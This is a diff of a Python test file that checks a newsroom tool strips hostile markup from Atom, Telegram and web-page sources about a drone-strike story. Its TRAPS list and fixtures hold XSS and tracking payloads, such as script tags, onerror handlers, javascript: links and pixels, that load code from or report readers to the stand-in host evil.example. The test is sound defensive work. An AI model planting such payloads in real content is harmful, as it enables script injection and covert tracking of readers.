@@ -1,4 +1,4 @@
-"""Scripts, pixels and traps in every field of every kind of source: what is stored, mailed and posted is words alone."""
+"""Scripts, pixels and traps in every field of every kind of source: what is stored, mailed and posted is words."""
 
 from __future__ import annotations
 
@@ -19,13 +19,17 @@ from newsroom import Newsroom
 STORY = "Two drones hit Ain al-Asad air base in western Iraq"
 #: every word that must reach nobody; `evil.example` is whoever wants to know who read it
 TRAPS = (
-    "<script>EVILSCRIPT()</script>", "<script src='https://evil.example/s.js'></script>", "<style>@import 'https://evil.example/c.css';</style>",
+    "<script>EVILSCRIPT()</script>", "<script src='https://evil.example/s.js'></script>",
+    "<style>@import 'https://evil.example/c.css';</style>",
     "<img src='https://evil.example/pixel.gif?u=1' width=1 height=1>", "<img src=x onerror='EVILHANDLER()'>",
-    "<iframe src='https://evil.example/f'>EVILFRAME</iframe>", "<object data='https://evil.example/o'></object>", "<embed src='https://evil.example/e'>",
+    "<iframe src='https://evil.example/f'>EVILFRAME</iframe>",
+    "<object data='https://evil.example/o'></object>", "<embed src='https://evil.example/e'>",
     "<link rel=stylesheet href='https://evil.example/l.css'>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
     "<base href='https://evil.example/'>", "<form action='https://evil.example/'><input name=q></form>",
-    "<svg onload='EVILHANDLER()'><script>EVILSCRIPT()</script></svg>", "<a href='javascript:EVILSCRIPT()'>here</a>", "<a ping='https://evil.example/' href='data:text/html,EVIL'>there</a>",
-    "<video poster='https://evil.example/p.jpg'></video>", "<div style='background:url(https://evil.example/b.png)'>", "<!--EVILCOMMENT-->",
+    "<svg onload='EVILHANDLER()'><script>EVILSCRIPT()</script></svg>", "<a href='javascript:EVILSCRIPT()'>here</a>",
+    "<a ping='https://evil.example/' href='data:text/html,EVIL'>there</a>",
+    "<video poster='https://evil.example/p.jpg'></video>",
+    "<div style='background:url(https://evil.example/b.png)'>", "<!--EVILCOMMENT-->",
     "<math><mtext><style><img src=x onerror=EVILHANDLER()></style></mtext></math>", "<noscript><img src='https://evil.example/n.gif'></noscript>",
     "<template><img src='https://evil.example/t.gif'></template>", "<p hidden onclick=EVILHANDLER()>",
 )  # fmt: skip
@@ -60,7 +64,7 @@ def atom() -> tuple[str, str]:
         f"<feed xmlns='http://www.w3.org/2005/Atom'><title type='html'>{bad}</title><author><name>{bad}</name></author>"
         f"<entry><title type='html'>{bad}{STORY}{bad}</title><id>{escape(GUID)}</id><link href='{PAGE}'/>"
         f"<link rel='enclosure' href='https://evil.example/e'/><summary type='html'>{bad}{STORY}{bad}</summary>"
-        f"<content type='html'>{bad}{STORY}.{bad}</content><category term='{bad}'/><rights>{bad}</rights></entry></feed>"
+        f"<content type='html'>{bad}{STORY}.{bad}</content><category term='{bad}'/></entry></feed>"
     )
 
 
@@ -100,7 +104,8 @@ def telegram() -> tuple[str, str]:
 def page() -> tuple[str, str]:
     return "text/html", (
         f"<!doctype html><html><head><title>x</title></head><body>{MARKUP.replace('<base', '<x-base')}</div></p>"
-        f"<article><h2>{STORY}<img src='https://evil.example/h.gif' onerror='EVILHANDLER()'></h2><a href='{PAGE}'>more</a>"
+        f"<article><h2>{STORY}<img src='https://evil.example/h.gif' onerror='EVILHANDLER()'></h2>"
+        f"<a href='{PAGE}'>more</a>"
         f"<p>{STORY}{MARKUP.replace('<base', '<x-base')}</div></p></article></body></html>"
     )
 
